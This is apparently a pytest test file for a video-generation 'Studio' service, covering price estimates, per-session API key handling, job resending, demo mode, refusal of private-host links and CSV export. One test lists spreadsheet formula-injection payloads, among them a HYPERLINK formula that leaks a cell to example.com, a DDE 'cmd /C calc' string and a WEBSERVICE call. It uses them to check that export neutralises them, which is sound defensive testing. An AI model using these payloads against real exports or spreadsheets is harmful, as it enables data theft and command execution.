"""The Studio facade: estimates, keys, history actions, export and demo mode."""

from __future__ import annotations

import csv
import gc
import io
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from studio.export import CSV_COLUMNS
from studio.generation import InvalidRequest
from studio.linkfetch import LinkRejected
from studio.records import BILLED, DEMO, JobFilter, JobStatus
from studio.schedule import PollPolicy
from studio.service import KeyRequired, Studio
from studio.settings import Settings
from studio.store import JobStore
from tests.plugins.engine import (
    CATALOG,
    ENGINE_KEY,
    finished,
    first_frame,
    quick_draft,
    settings_for,
    wait_until,
)


def submit(
    studio: Studio,
    *,
    api_key: str | None = None,
    session_id: str = "s",
    key_holder: str | None = None,
    **changes,
):
    return studio.submit(
        quick_draft(**changes),
        submission_id=str(uuid.uuid4()),
        session_id=session_id,
        api_key=api_key,
        key_holder=key_holder,
    )


def test_estimates_say_the_price_and_the_size(billed_studio: Studio):
    draft = quick_draft(model="wan2.2-i2v-plus", resolution="1080P", duration=5)
    estimate = billed_studio.estimate(draft)
    assert estimate.billed
    assert estimate.cost_usd == Decimal("0.75")
    # Billing per second is exact: the price and its arithmetic, with no "≈".
    assert estimate.text == "$0.750 · 5 s × $0.150/s"
    assert (estimate.output_width, estimate.output_height) == (1648, 1232)
    assert estimate.listed_usd is None


def test_demo_estimates_say_nothing_is_billed(demo_studio: Studio):
    estimate = demo_studio.estimate(quick_draft(image=None))
    assert not estimate.billed
    assert estimate.text == "demo, not billed: would cost $0.135 · 3 s × $0.045/s"
    assert estimate.output_width is None
    # A key typed for the session makes the same draft billed.
    assert demo_studio.estimate(quick_draft(), api_key="typed-key-0000").billed


def test_estimates_show_the_listed_price_where_it_differs(demo_studio: Studio):
    draft = quick_draft(model="wan2.2-i2v-flash", resolution="720P", duration=5)
    estimate = demo_studio.estimate(draft)
    assert estimate.cost_usd == Decimal("0.225")
    assert estimate.listed_usd == Decimal("0.2")


def test_estimates_refuse_options_the_model_does_not_offer(demo_studio: Studio):
    with pytest.raises(InvalidRequest) as caught:
        demo_studio.estimate(quick_draft(resolution="1080P"))
    assert [p.field for p in caught.value.problems] == ["resolution"]


def test_check_draft_reports_a_missing_image(demo_studio: Studio):
    assert [p.field for p in demo_studio.check_draft(quick_draft(image=None))] == ["image"]
    assert demo_studio.check_draft(quick_draft()) == []


def test_demo_mode_runs_its_own_gateway_and_shares_it(demo_studio: Studio, open_studio):
    assert demo_studio.mode == DEMO
    assert demo_studio.demo_url.startswith("http://127.0.0.1:")
    second = open_studio()
    assert second.demo_url == demo_studio.demo_url


def test_a_demo_job_in_flight_survives_a_restart(open_studio):
    first = open_studio(start_watcher=False)
    job = submit(first)
    first.close()
    again = open_studio()
    done = wait_until(finished(again, job))
    assert done.status is JobStatus.SUCCEEDED
    assert again.video_file(done) is not None


def test_billed_jobs_wait_for_their_key_and_resume_with_it(open_studio, engine_gateway):
    typed = f"{ENGINE_KEY}+slow:endpoint=submit:seconds=0"
    sender = open_studio(base_url=engine_gateway.url, start_watcher=False)
    job = submit(sender, api_key=typed)
    assert job.mode == BILLED
    sender.close()

    restarted = open_studio(base_url=engine_gateway.url)
    assert [waiting.id for waiting in restarted.jobs_waiting_for_key()] == [job.id]
    assert restarted.job(job.id).status is JobStatus.QUEUED
    fingerprint = restarted.use_session_key(typed, holder="browser-1")
    assert fingerprint == job.key_fingerprint
    done = wait_until(finished(restarted, job))
    assert done.status is JobStatus.SUCCEEDED
    assert restarted.jobs_waiting_for_key() == []


def test_a_key_stays_held_while_any_browser_session_holds_it(open_studio, engine_gateway):
    studio = open_studio(base_url=engine_gateway.url, start_watcher=False)
    typed = f"{ENGINE_KEY}+slow:endpoint=submit:seconds=0"
    fingerprint = studio.use_session_key(typed, holder="browser-a")
    assert studio.use_session_key(f"  {typed}\n", holder="browser-b") == fingerprint
    studio.forget_session_key(typed, holder="browser-a")
    assert fingerprint in studio.held_key_fingerprints()
    studio.forget_session_key(typed, holder="browser-a")  # twice changes nothing
    assert fingerprint in studio.held_key_fingerprints()
    studio.forget_session_key(typed, holder="browser-b")
    assert fingerprint not in studio.held_key_fingerprints()
    # Only the demo key is left in the process.
    assert studio.held_key_fingerprints() == [studio.demo_fingerprint]


def test_a_browser_session_that_ends_lets_go_of_its_key(demo_studio: Studio):
    class Session:
        pass

    ended, still_open = Session(), Session()
    typed = "pz-typed-key-0123456789"
    fingerprint = demo_studio.use_session_key(typed, holder="browser-a", alive=ended)
    demo_studio.use_session_key(typed, holder="browser-b", alive=still_open)
    del ended
    gc.collect()
    assert fingerprint in demo_studio.held_key_fingerprints()
    del still_open
    gc.collect()
    assert fingerprint not in demo_studio.held_key_fingerprints()


def test_forgetting_the_configured_key_in_a_session_keeps_it_for_the_app(billed_studio: Studio):
    configured = billed_studio.settings.fingerprint(ENGINE_KEY)
    billed_studio.use_session_key(ENGINE_KEY, holder="browser-a")
    billed_studio.forget_session_key(ENGINE_KEY, holder="browser-a")
    assert configured in billed_studio.held_key_fingerprints()


@pytest.mark.parametrize("bad", ["\u200b", "\ufeff", "\n", "\u00a0"])
def test_a_key_with_a_character_no_key_can_have_is_never_held(demo_studio: Studio, bad: str):
    with pytest.raises(ValueError, match="can't be part of a key"):
        demo_studio.use_session_key(f"{ENGINE_KEY}{bad}x", holder="browser-a")
    assert demo_studio.held_key_fingerprints() == [demo_studio.demo_fingerprint]


def test_a_shared_session_link_never_carries_the_power_to_spend(open_studio, engine_gateway):
    # Browser A enters a key and sends a job whose answer is lost; browser B opened A's
    # ?session= link (same session id) but entered no key.
    studio = open_studio(base_url=engine_gateway.url)
    typed = f"{ENGINE_KEY}+lost_submit"
    job = submit(studio, api_key=typed, session_id="shared", key_holder="browser-a")
    assert job.status is JobStatus.UNCERTAIN
    sent = len(engine_gateway.tasks())

    with pytest.raises(KeyRequired, match="not entered in this browser session"):
        studio.resend(job.id, submission_id="from-b", session_id="shared", key_holder="browser-b")
    # A forgets the key: from then on it is not in the process, and B still cannot send.
    studio.forget_session_key(typed, holder="browser-a")
    assert job.key_fingerprint not in studio.held_key_fingerprints()
    with pytest.raises(KeyRequired):
        studio.resend(job.id, submission_id="from-b2", session_id="shared", key_holder="browser-b")
    assert studio.job(job.id).status is JobStatus.UNCERTAIN
    assert len(engine_gateway.tasks()) == sent
    assert studio.history(JobFilter(session_id="shared")) == [studio.job(job.id)]


def test_a_job_in_flight_waits_once_its_key_is_forgotten_and_resumes_when_entered(
    open_studio, engine_gateway
):
    typed = f"{ENGINE_KEY}+slow:endpoint=submit:seconds=0"
    studio = open_studio(base_url=engine_gateway.url, start_watcher=False)
    job = submit(studio, api_key=typed, key_holder="browser-a")
    assert job.status is JobStatus.QUEUED
    studio.forget_session_key(typed, holder="browser-a")
    assert [waiting.id for waiting in studio.jobs_waiting_for_key()] == [job.id]
    studio.start_watcher()
    studio.use_session_key(typed, holder="browser-c")
    assert wait_until(finished(studio, job)).status is JobStatus.SUCCEEDED


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def database_url(request: pytest.FixtureRequest, tmp_path) -> str:
    if request.param == "sqlite":
        return settings_for(tmp_path / "data").database_url
    return request.getfixturevalue("postgres_database_url")


@pytest.mark.parametrize("field", ["prompt", "negative_prompt"])
def test_a_nul_in_a_prompt_is_refused_before_anything_is_stored(
    database_url: str, tmp_path, field: str
):
    settings = replace(settings_for(tmp_path / "data"), database_url=database_url)
    with Studio.open(settings, start_watcher=False, catalog=CATALOG) as studio:
        with pytest.raises(InvalidRequest) as caught:
            submit(studio, **{field: "waves\x00 at dusk"})
        assert [problem.field for problem in caught.value.problems] == [field]
        assert "control character (U+0000" in str(caught.value)
        assert studio.count_history() == 0


def test_history_reuse_gives_back_the_settings_and_image(demo_studio: Studio):
    job = submit(demo_studio, prompt="waves at dusk", watermark=True)
    draft = demo_studio.reuse(job.id)
    assert draft.prompt == "waves at dusk"
    assert draft.watermark
    assert draft.seed == job.seed
    assert draft.image is not None
    assert draft.image.sha256 == job.image_sha256
    assert draft.image_source == "frame.jpg"
    assert demo_studio.check_draft(draft) == []


def test_an_uncertain_job_can_be_sent_again_once(
    billed_studio: Studio, open_studio, engine_gateway
):
    job = submit(billed_studio, api_key=f"{ENGINE_KEY}+lost_submit")
    assert billed_studio.can_resend(job)
    assert not billed_studio.can_recheck(job)
    # Another process that does not hold the key the job was made with cannot resend it.
    elsewhere = open_studio(api_key=ENGINE_KEY, base_url=engine_gateway.url, start_watcher=False)
    with pytest.raises(KeyRequired):
        elsewhere.resend(job.id, submission_id="again", session_id="s")
    new = billed_studio.resend(job.id, submission_id="again", session_id="s", api_key=ENGINE_KEY)
    assert new.id != job.id
    assert new.seed == job.seed
    old = billed_studio.job(job.id)
    assert old.status is JobStatus.CANCELED
    assert f"job {new.id}" in old.explanation
    assert not billed_studio.can_resend(old)
    repeated = billed_studio.resend(job.id, submission_id="again", session_id="s")
    assert repeated.id == new.id
    with pytest.raises(ValueError, match="only jobs whose sending is uncertain"):
        billed_studio.resend(job.id, submission_id="third", session_id="s")
    assert wait_until(finished(billed_studio, new)).status is JobStatus.SUCCEEDED
    assert len(engine_gateway.tasks()) == 2


def test_an_uncertain_job_can_be_dismissed(billed_studio: Studio):
    job = submit(billed_studio, api_key=f"{ENGINE_KEY}+lost_submit")
    dismissed = billed_studio.dismiss(job.id)
    assert dismissed.status is JobStatus.CANCELED
    assert "Dismissed" in dismissed.explanation
    # Anything else comes back unchanged.
    assert billed_studio.dismiss(job.id).status is JobStatus.CANCELED


def test_export_lists_every_job_without_the_key(billed_studio: Studio):
    done = wait_until(finished(billed_studio, submit(billed_studio, prompt='say "hi", then')))
    submit(billed_studio, api_key="wrong-key-here", session_id="other")
    exported = billed_studio.export_csv().decode("utf-8")
    assert ENGINE_KEY not in exported
    assert "wrong-key-here" not in exported
    rows = list(csv.reader(io.StringIO(exported)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 3
    record = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert record["mode"] == BILLED
    # The status in the page's words; the cost in the billed column, none in the demo one.
    assert record["status"] == JobStatus.SUCCEEDED.label == "Done"
    assert record["prompt"] == 'say "hi", then'
    assert record["billed cost USD"] == "0.135"
    assert record["demo would-be cost USD"] == ""
    assert record["billed seconds"] == "3"
    assert record["video file"] == f"videos/{done.id}.mp4"
    assert record["created (UTC)"].endswith("+00:00")
    only_other = billed_studio.export_csv(JobFilter(session_id="other")).decode("utf-8")
    assert len(list(csv.reader(io.StringIO(only_other)))) == 2


def test_history_and_session_lists(demo_studio: Studio):
    mine = submit(demo_studio, session_id="mine")
    submit(demo_studio, session_id="theirs")
    assert [job.id for job in demo_studio.session_jobs("mine")] == [mine.id]
    assert demo_studio.count_history() == 2
    assert demo_studio.count_history(JobFilter(mode=DEMO, session_id="theirs")) == 1
    assert demo_studio.totals("mine").session.demo.jobs == 1
    thumbnail = demo_studio.thumbnail(mine.image_sha256)
    assert thumbnail[:2] == b"\xff\xd8"
    assert demo_studio.image_file(mine.image_sha256).is_file()


def test_expected_finish_comes_from_similar_past_jobs(demo_studio: Studio):
    first = submit(demo_studio)
    assert demo_studio.expected_finish(demo_studio.job(first.id)) is None
    for seed in range(3):
        wait_until(finished(demo_studio, submit(demo_studio, seed=seed)))
    wait_until(finished(demo_studio, first))
    demo_studio._estimator.forget()
    pending = submit(demo_studio, seed=99)
    expected = demo_studio.expected_finish(pending)
    assert expected is not None
    assert expected > pending.submitted_at


def test_links_to_private_hosts_are_refused_unless_trusted(tmp_path, httpserver):
    image = first_frame().data
    httpserver.expect_request("/frame.jpg").respond_with_data(image, content_type="image/jpeg")
    link = httpserver.url_for("/frame.jpg")
    plain = Studio.open(
        settings_for(tmp_path / "a", api_key="k" * 20), start_watcher=False, catalog=CATALOG
    )
    try:
        with pytest.raises(LinkRejected):
            plain.load_link(link)
    finally:
        plain.close()
    trusted = Settings(
        **{
            **vars(settings_for(tmp_path / "b", api_key="k" * 20)),
            "trusted_image_hosts": (f"{httpserver.host}:{httpserver.port}",),
        }
    )
    studio = Studio.open(trusted, start_watcher=False, catalog=CATALOG)
    try:
        assert studio.load_link(link).data == image
        check = studio.read_upload("frame.jpg", image).check
        assert check.ok
    finally:
        studio.close()


def test_close_stops_the_watcher(open_studio):
    studio = open_studio()
    assert studio.watcher_running
    studio.close()
    assert not studio.watcher_running


def test_the_deadline_and_budget_come_from_the_settings(tmp_path):
    settings = Settings(
        **{
            **vars(settings_for(tmp_path)),
            "job_deadline_minutes": 2.0,
            "request_budget_per_second": 3.0,
        }
    )
    studio = Studio.open(settings, start_watcher=False, catalog=CATALOG)
    try:
        assert studio.policy.deadline == 120
        assert studio.budget.rate_per_second == 3.0
    finally:
        studio.close()


def _past_success(store: JobStore, *, queued_seconds: int, running_seconds: int) -> None:
    submitted = datetime(2026, 1, 5, 12, 0, tzinfo=UTC)
    job, _ = store.create_job(
        submission_id=uuid.uuid4().hex,
        mode=DEMO,
        session_id="earlier",
        model="wan2.1-i2v-turbo",
        resolution="480P",
        duration=3,
        prompt="",
        negative_prompt="",
        prompt_extend=False,
        watermark=False,
        seed=1,
        image_sha256="0" * 64,
        image_source=None,
        last_frame_sha256=None,
        estimate_usd=Decimal("0.135"),
        output_width=640,
        output_height=480,
        key_fingerprint=None,
        request_json="{}",
    )
    started = submitted + timedelta(seconds=queued_seconds)
    store.update(
        job.id,
        status=JobStatus.SUCCEEDED,
        submitted_at=submitted,
        started_at=started,
        finished_at=started + timedelta(seconds=running_seconds),
    )


def test_demo_jobs_are_polled_on_the_demo_gateways_own_time(open_studio):
    # The standard schedule is for real jobs of minutes; the demo gateway runs its jobs in
    # seconds (here 40 times faster still), so its jobs get the schedule scaled to its speed and
    # its own timing model: a queued demo job is looked at again within a fraction of a second.
    studio = open_studio(policy=None, start_watcher=False)
    job = submit(studio)
    assert job.is_demo
    assert job.status is JobStatus.QUEUED
    now = datetime.now(UTC)
    wait = (studio._watcher._later(job) - now).total_seconds()
    assert wait < PollPolicy().near_finish_delay / 10
    billed_wait = (studio._watcher._later(replace(job, mode=BILLED)) - now).total_seconds()
    assert billed_wait >= PollPolicy().near_finish_delay * (1 - PollPolicy().jitter)


def test_expected_finish_counts_from_the_start_once_the_gateway_started_the_job(
    demo_studio: Studio, store_of
):
    # Queues varied (10-50 s) but running took 60 s each time.
    for queued in (10, 30, 50):
        _past_success(store_of(demo_studio), queued_seconds=queued, running_seconds=60)
    submitted = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)
    template = demo_studio.history(limit=1)[0]
    queued_job = replace(template, status=JobStatus.QUEUED, submitted_at=submitted, started_at=None)
    running_job = replace(
        queued_job, status=JobStatus.RUNNING, started_at=submitted + timedelta(seconds=100)
    )

    assert demo_studio.expected_finish(queued_job) == submitted + timedelta(seconds=90)
    assert demo_studio.expected_finish(running_job) == submitted + timedelta(seconds=160)
    assert demo_studio.expected_finish(template) is None  # finished jobs expect nothing


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("https://example.com/?leak="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_keeps_formulas_from_running_in_a_spreadsheet(
    demo_studio: Studio, store_of, prompt: str
):
    job = wait_until(finished(demo_studio, submit(demo_studio, prompt=prompt)))
    # What the gateway says about the prompt it used is just as untrusted.
    store_of(demo_studio).update(job.id, actual_prompt='=WEBSERVICE("https://example.com")')
    rows = list(csv.reader(io.StringIO(demo_studio.export_csv().decode("utf-8"))))
    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert record["prompt"] == "'" + prompt
    assert record["actual prompt"] == '\'=WEBSERVICE("https://example.com")'
    # Cells that are not formulas stay as they were.
    assert record["status"] in {status.label for status in JobStatus}
    assert record["estimate USD"][0].isdigit()


def test_the_store_images_and_watcher_are_the_studios_own(demo_studio: Studio):
    # Callers ask the Studio; they never reach through it to its parts.
    for part in ("store", "images", "watcher"):
        assert not hasattr(demo_studio, part)
    assert demo_studio.watcher_running
